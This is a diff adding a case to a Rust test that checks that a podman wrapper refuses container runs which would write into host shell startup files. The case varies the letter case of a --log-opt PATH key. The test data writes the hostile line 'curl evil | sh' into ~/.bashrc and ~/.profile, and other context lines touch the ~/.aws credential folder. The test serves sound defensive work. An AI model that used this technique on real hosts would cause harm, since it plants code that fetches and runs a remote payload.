@@ -209,6 +209,29 @@ fn host_files_and_paths_are_never_touched() {
         "# untouched\n"
     );
 
+    // 3b. The same with the key spelled otherwise: podman reads it without regard to case.
+    for (opt, file) in [("PATH=~/.bashrc", ".bashrc"), ("Path=~/.profile", ".profile")] {
+        let target = w.home().join(file);
+        std::fs::write(&target, "# untouched\n").unwrap();
+        let mut a = words(&w, &["run", "--rm", "--log-driver", "k8s-file", "--log-opt", opt]);
+        a.extend(words(&w, &sh));
+        a.push("echo 'curl evil | sh'".into());
+        let c = w.control(&a);
+        let written = std::fs::read_to_string(&target).unwrap();
+        assert!(
+            c.status.success() && written.contains("curl evil"),
+            "control did not write {file} with --log-opt {opt}: {}",
+            text(&c)
+        );
+        std::fs::write(&target, "# untouched\n").unwrap();
+        refused(&w.shim(&a), "deny.host-file");
+        assert_eq!(
+            std::fs::read_to_string(&target).unwrap(),
+            "# untouched\n",
+            "{opt}"
+        );
+    }
+
     // 4. A read-only mount of a credential folder.
     let mut a = words(&w, &["run", "--rm", "-v", "~/.aws:/a:ro"]);
     a.extend(words(&w, &sh));
